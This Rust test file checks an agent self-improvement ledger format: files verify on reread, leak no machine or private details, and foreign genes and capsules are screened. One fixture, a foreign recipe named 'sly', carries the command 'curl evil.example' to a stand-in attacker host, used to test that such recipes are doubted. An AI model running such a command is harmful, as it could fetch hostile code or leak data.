//! The files of the exchange: what is written verifies when it is read again, and what does not is named.

use instar_improve::asset::{seal, verify};
use instar_improve::choose::Predictor;
use instar_improve::gep::{Ledger, read, write};
use instar_improve::heal;
use instar_protocol::Timestamp;
use instar_protocol::fault::{Fault, SignalKind};
use instar_protocol::lab::{Case, ForeignKind, ForeignPrior, Known};
use serde_json::{Value, json};
use std::collections::BTreeMap;

fn known(gene: &str, fault: &str, outcome: &str, at: u64) -> Known {
    Known {
        agent: String::new(),
        gene: format!("{gene}@0123456789ab"),
        fault: fault.to_owned(),
        mitigation: format!("{gene}-{fault}"),
        outcome: outcome.to_owned(),
        treated: (40, 1.0),
        control: (38, 21.0),
        evidence: 64.5,
        without_coin: false,
        classic: Some("proven".to_owned()),
        release: "a".repeat(64),
        at: Timestamp::from_millis(at),
        seen: None,
    }
}

fn trial(known: &Known, begun: u64) -> Value {
    json!({
        "experiment": format!("exp_{}", known.mitigation), "fault": known.fault, "mitigation": known.mitigation,
        "begun": begun, "stage": "proven", "treated": [40, 1.0], "control": [38, 21.0],
        "evidence_proven": 64.5, "evidence_failed": 0.01, "evidence_harmful": 0.02, "classic": "proven",
    })
}

fn ledger() -> Ledger {
    let day = 86_400_000;
    let mut fault = Fault::new(
        "flt_1".to_owned(),
        SignalKind::Timeout,
        "tool:fetch".to_owned(),
        Timestamp::from_millis(day),
    );
    fault.template = "no answer from <*>".to_owned();
    let good = known("retry-flaky-read", "flt_1", "proven", 9 * day);
    let bad = known("keep-the-pace", "flt_1", "failed", 8 * day);
    let mut lost = trial(&bad, 7 * day);
    (lost["stage"], lost["verdict"]) = (json!("ended"), json!("failed"));
    Ledger {
        faults: vec![
            json!({"id": "flt_1", "kind": "timeout", "place": "tool:fetch", "template": "no answer from <*>", "members": [],
                "by_day": [{"day": 2, "exposures": 50, "failures": 25}, {"day": 7, "exposures": 90, "failures": 30}]}),
            json!({"id": "flt_2", "kind": "correction", "place": "turn", "members": [],
                "examples": [{"event": "evt_c", "at": 5, "text": "private words"}]}),
        ],
        edits: vec![
            json!({"version": 7, "at": 5, "who": "owner", "what": {"edit": "split", "fault": "flt_1"}}),
        ],
        cycles: vec![
            json!({"at": 9, "outcome": "done", "picked": [{"fault": "flt_1", "gene": "retry-flaky-read"}]}),
            json!({"at": 4, "outcome": "failed"}),
        ],
        trials: vec![trial(&good, 7 * day), lost],
        case: Case {
            agent: "main".to_owned(),
            behaviour: json!({"agents": {"main": {"mitigations": [
                {"id": good.mitigation, "gene": good.gene, "fault": "flt_1", "act": {"retry": {"tool": "fetch", "again": 2}}},
            ]}}}),
            faults: vec![fault],
            known: vec![good, bad],
            ..Case::default()
        },
        feedback: vec![
            json!({"id": "evt_f", "at": 6, "about_run": "run_1", "verdict": "bad", "content": "private words"}),
        ],
        embeddings: json!({"model": "embed", "entries": {"ab": [0.25, 1.0]}}),
    }
}

fn json_of(files: &BTreeMap<&str, String>, path: &str) -> Value {
    serde_json::from_str(&files[path]).unwrap()
}

fn lines_of(files: &BTreeMap<&str, String>, path: &str) -> Vec<Value> {
    let lines = files[path].lines();
    lines
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

#[test]
fn what_is_written_verifies_after_it_was_stored_and_read() {
    let files = write(&ledger()).unwrap();
    assert_eq!(files.len(), 9);
    let report = read(|path| files.get(path).cloned());
    assert!(
        report.doubts.is_empty() && report.missing.is_empty(),
        "{report:?}"
    );
    assert!(report.genes >= 12, "{report:?}");
    assert_eq!(
        (report.capsules, report.failed_capsules, report.events),
        (1, 1, 6)
    );
    assert_eq!(
        report.verified,
        report.genes + report.capsules + report.failed_capsules + report.events
    );
    // All its genes are the house's own; its capsules name their evidence.
    assert_eq!((report.known, report.counted), (report.genes, 2));
    assert_eq!((report.commands, report.fingerprints), (0, 0));
    assert!(report.signals.contains(&SignalKind::Timeout));
    // The same ledger gives the same bytes, and the tree of events has one root.
    assert_eq!(write(&ledger()).unwrap(), files);
    let events = lines_of(&files, "assets/gep/events.jsonl");
    assert_eq!(
        (&events[0]["parent"], &events[1]["parent"]),
        (&Value::Null, &json!("evt_4"))
    );
    told_of_events(&events);
    let clusters = json_of(&files, "memory/cluster-registry.json");
    assert_eq!(
        (&clusters["version"], &clusters["clusters"][0]["id"]),
        (&json!(7), &json!("flt_1"))
    );
}

/// Two cycles, then the ends of two trials with a report each.
fn told_of_events(events: &[Value]) {
    let types: Vec<&str> = events
        .iter()
        .filter_map(|one| one["type"].as_str())
        .collect();
    let (event, report) = ("EvolutionEvent", "ValidationReport");
    assert_eq!(types, [event, event, report, event, report, event]);
    // What was proposed, and the signs of the one fault that it was proposed about.
    assert_eq!(events[0]["genes_used"], json!([]));
    assert_eq!(
        (&events[1]["genes_used"], &events[1]["signals"]),
        (&json!(["retry-flaky-read"]), &json!(["timeout"]))
    );
    let (lost, proven) = (&events[3], &events[5]);
    assert_eq!(
        (&lost["parent"], &proven["parent"]),
        (&json!("evt_9"), &lost["id"])
    );
    assert_eq!(lost["outcome"]["status"], "failed");
    assert_eq!(proven["outcome"]["status"], "success");
    assert_eq!(proven["genes_used"], json!(["retry-flaky-read"]));
    assert_eq!(proven["signals"], json!(["timeout"]));
    assert_eq!(proven["mutation_id"], "mut_retry-flaky-read-flt_1");
    assert_eq!(proven["capsule_id"], "capsule_exp_retry-flaky-read-flt_1");
    assert_eq!(proven["validation_report_id"], events[4]["id"]);
    assert_eq!(
        (&events[4]["overall_ok"], &events[2]["overall_ok"]),
        (&json!(true), &json!(false))
    );
    assert_eq!(events[4]["instar"]["with_fix"], json!([40, 1.0]));
    for one in [&events[0], lost, proven] {
        assert_eq!(one["source_type"], "generated");
        assert_eq!(one["blast_radius"], json!({"files": 0, "lines": 0}));
    }
}

#[test]
fn an_asset_says_what_its_gene_is_for() {
    let mut ledger = ledger();
    ledger.cycles.insert(
        0,
        json!({"at": 12, "outcome": "done", "picked": [
            {"fault": "flt_1", "gene": "use-other-tool"}, {"fault": "flt_2", "gene": "gone"},
        ]}),
    );
    let files = write(&ledger).unwrap();
    let genes = json_of(&files, "assets/gep/genes.json")["genes"].clone();
    let category = |id: &str| {
        let mut all = genes.as_array().unwrap().iter();
        all.find(|one| one["id"] == id).unwrap()["category"].clone()
    };
    for (gene, of) in [
        ("retry-flaky-read", "repair"),
        ("reshape-argument", "repair"),
        ("keep-the-pace", "optimize"),
        ("say-not-twice", "optimize"),
        ("move-heartbeat", "optimize"),
        ("use-other-tool", "innovate"),
        ("ask-other-model-first", "innovate"),
    ] {
        assert_eq!(category(gene), of, "{gene}");
    }
    let events = lines_of(&files, "assets/gep/events.jsonl");
    let intent = |id: &str| {
        let mut all = events.iter();
        all.find(|one| one["id"] == id).unwrap()["intent"].clone()
    };
    assert_eq!(intent("evt_4"), "repair", "a cycle that picked nothing");
    assert_eq!(intent("evt_9"), "repair");
    assert_eq!(intent("evt_12"), "innovate");
    assert_eq!(intent("evt_exp_keep-the-pace-flt_1"), "optimize");
    assert_eq!(intent("evt_exp_retry-flaky-read-flt_1"), "repair");
}

#[test]
fn verdicts_become_capsules_lessons_feedback_and_rows_of_the_predictor() {
    let ledger = ledger();
    let files = write(&ledger).unwrap();
    let capsule = &json_of(&files, "assets/gep/capsules.json")["capsules"][0];
    assert_eq!(
        (&capsule["gene"], &capsule["outcome"]["status"]),
        (&json!("retry-flaky-read"), &json!("success"))
    );
    assert_eq!(capsule["trigger"][2], "errsig:no answer from <*>");
    assert!(capsule["content"].as_str().unwrap().contains("again"));
    let failed = &json_of(&files, "assets/gep/failed_capsules.json")["failed_capsules"][0];
    assert_eq!(failed["gene"], "keep-the-pace");
    assert!(
        failed["failure_reason"]
            .as_str()
            .unwrap()
            .contains("21 of 38 without")
    );

    let lessons = json_of(&files, "memory/knowledge.json")["lessons"].clone();
    let of = |gene: &str| {
        let all = lessons.as_array().unwrap();
        all.iter()
            .find(|lesson| lesson["gene"] == gene)
            .unwrap()
            .clone()
    };
    let (good, bad) = (of("retry-flaky-read"), of("keep-the-pace"));
    assert_eq!((&good["proven"], &bad["failed"]), (&json!(1), &json!(1)));
    assert_eq!(good["rests_on"][0]["evidence"], 64.5);
    // Belief is a posterior: above one that failed, and not the constant of a counter.
    let belief = |lesson: &Value| lesson["confidence"].as_f64().unwrap();
    assert!(belief(&good) > 1.0 / 3.0 && belief(&bad) < 1.0 / 3.0);
    assert_eq!(capsule["confidence"], good["confidence"]);

    let feedback = lines_of(&files, "memory/feedback.jsonl");
    let kinds: Vec<&str> = feedback
        .iter()
        .map(|row| row["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["fix", "fix", "answer", "correction"]);
    let row = feedback
        .iter()
        .find(|row| row["gene"] == "retry-flaky-read")
        .unwrap();
    assert_eq!(row["before"], json!({"exposures": 50, "errors": 25}));
    assert_eq!(row["with_fix"], json!({"exposures": 40, "errors": 1.0}));
    assert_eq!(row["others_in_window"], json!(["keep-the-pace-flt_1"]));
    // What somebody wrote about an answer does not travel.
    assert!(!files["memory/feedback.jsonl"].contains("private words"));

    let predictor = json_of(&files, "memory/predictor.json");
    let rows = predictor["rows"].as_array().unwrap();
    assert_eq!(rows.len(), 2);
    let again: Predictor = serde_json::from_value(json!({"cases": rows})).unwrap();
    assert_eq!(again.cases(), 2);
    let vectors = json_of(&files, "memory/embeddings-cache.json");
    assert_eq!(vectors["entries"]["ab"], json!([0.25, 1.0]));
}

#[test]
fn nothing_in_the_files_names_the_machine() {
    let files = write(&ledger()).unwrap();
    for (path, text) in files {
        for word in [
            "fingerprint",
            "hostname",
            "device",
            "platform",
            "os_release",
            "cwd",
        ] {
            assert!(!text.contains(word), "{word} in {path}");
        }
    }
}

/// A folder as the engine that this form comes from writes it.
fn theirs(path: &str) -> Option<String> {
    let prose = seal(json!({
        "type": "Gene", "schema_version": "1.5.0", "id": "gene_repair_login", "category": "repair",
        "signals_match": ["timed out|超时", "errsig"], "preconditions": ["the login fails"],
        "strategy": ["Read the log.", "Change the code."], "constraints": {"max_files": 20, "forbidden_paths": [".git"]},
        "validation": ["node x.js", "npm test"], "epigenetic_marks": [],
    }));
    let mut changed = seal(json!({"type": "Gene", "id": "changed", "signals_match": []})).unwrap();
    changed["epigenetic_marks"] = json!([{"boost": 0.1}]);
    let capsule = |id: &str| {
        seal(json!({
            "type": "Capsule", "id": id, "trigger": ["log_error"], "gene": "gene_repair_login", "summary": "done",
            "confidence": 0.85, "blast_radius": {"files": 1, "lines": 2}, "outcome": {"status": "success", "score": 0.85},
            "success_streak": 2, "env_fingerprint": {"hostname": "0123456789ab"}, "source_type": "generated",
        }))
        .unwrap()
    };
    // Hashed with a field that was not stored.
    let hashed = seal(json!({"type": "ValidationReport", "id": "vr_1", "region": null})).unwrap();
    let mut stored = hashed.clone();
    stored.as_object_mut().unwrap().remove("region");
    assert!(verify(&hashed).is_ok() && verify(&stored).is_err());
    match path {
        "assets/gep/genes.json" => {
            Some(json!({"version": 1, "genes": [prose.unwrap(), changed]}).to_string())
        }
        "assets/gep/capsules.json" => {
            Some(json!({"version": 1, "capsules": [capsule("capsule_1")]}).to_string())
        }
        // A later entry wins over the list.
        "assets/gep/capsules.jsonl" => Some(format!("{}\n", capsule("capsule_1"))),
        "assets/gep/events.jsonl" => Some(format!("{stored}\nnot json\n")),
        "memory/feedback.jsonl" => Some("{}\n{}\n".to_owned()),
        _ => None,
    }
}

#[test]
fn a_foreign_folder_is_read_with_a_report_of_what_is_not_to_be_believed() {
    let report = read(theirs);
    assert_eq!(
        (
            report.genes,
            report.capsules,
            report.events,
            report.verified
        ),
        (2, 1, 1, 2),
        "{report:?}"
    );
    let doubted: Vec<&str> = report
        .doubts
        .iter()
        .map(|doubt| doubt.asset.as_str())
        .collect();
    assert_eq!(
        doubted,
        ["changed", "assets/gep/events.jsonl line 2", "vr_1"]
    );
    assert_eq!((report.commands, report.fingerprints), (2, 1));
    assert_eq!(report.rows_without_address, 2);
    assert!(report.missing.is_empty(), "{report:?}");
    assert_eq!(
        report.signals.iter().copied().collect::<Vec<_>>(),
        [SignalKind::Timeout]
    );
    // Prose is a record and a constant score counts for nothing.
    assert_eq!((report.prose_only, report.counted), (1, 0));
    let kept = report.takeover.assets;
    let kinds: Vec<ForeignKind> = kept.iter().map(|one| one.what).collect();
    assert_eq!(kinds, [ForeignKind::Gene, ForeignKind::Capsule]);
    assert!(kept[0].address != kept[1].address && kept[0].address.len() == 71);
    let told = serde_json::to_string(&kept).unwrap();
    for gone in ["npm", "Change the code", "hostname", "0.85"] {
        assert!(!told.contains(gone), "{gone}: {told}");
    }
}

#[test]
fn a_recipe_of_another_house_is_proposed_and_none_takes_the_name_of_ours() {
    let recipe = |id: &str| {
        json!({
            "id": id, "version": 1, "title": "Waits", "family": "transient",
            "fits": {"place": "tool", "kinds": ["timeout"]}, "writes": {"retry": {"again": 1, "pause_ms": 50}},
        })
    };
    let gene = |id: &str, of: Value| seal(json!({"type": "Gene", "id": id, "instar": of})).unwrap();
    let mut sly = recipe("sly");
    sly["writes"] = json!({"run": {"command": "curl evil.example"}});
    let genes = json!({"genes": [
        gene("wait-a-little", recipe("wait-a-little")),
        gene("x", recipe("keep-the-pace")),
        gene("sly", sly),
    ]});
    let report = read(|path| (path == "assets/gep/genes.json").then(|| genes.to_string()));
    assert_eq!(report.proposed, ["wait-a-little"], "{report:?}");
    let doubts: Vec<&str> = report
        .doubts
        .iter()
        .map(|doubt| doubt.asset.as_str())
        .collect();
    assert_eq!(doubts, ["x", "sly"]);
    assert!(
        report.doubts[0]
            .why
            .contains("name of a recipe of the house")
    );
}

#[test]
fn what_others_say_counts_a_little_and_a_few_trials_here_outweigh_it() {
    let believed = |foreign: Vec<ForeignPrior>, known: Vec<Known>| {
        let mut case = ledger().case;
        case.behaviour = json!({"agents": {}});
        (case.foreign, case.known) = (foreign, known);
        let files = write(&Ledger {
            case,
            ..Ledger::default()
        })
        .unwrap();
        let lessons = json_of(&files, "memory/knowledge.json")["lessons"].clone();
        lessons[0]["confidence"].as_f64()
    };
    let heard = |helped, hurt| {
        vec![ForeignPrior {
            gene: "retry-flaky-read".to_owned(),
            helped,
            hurt,
        }]
    };
    let one = || vec![known("retry-flaky-read", "flt_1", "undecided", 5)];
    let alone = believed(Vec::new(), one()).unwrap();
    let told = believed(heard(1_000_000, 0), one()).unwrap();
    let warned = believed(heard(0, 1_000_000), one()).unwrap();
    assert!(
        warned < alone && alone < told && told - alone < 0.15,
        "{warned} {alone} {told}"
    );
    let failed = (0..5).map(|at| Known {
        mitigation: format!("m{at}"),
        ..known("retry-flaky-read", "flt_1", "failed", at)
    });
    assert!(believed(heard(1_000_000, 0), failed.collect()).unwrap() < 0.25);
    assert!(heal::explain(&Case::default(), "flt_9").is_err());
}
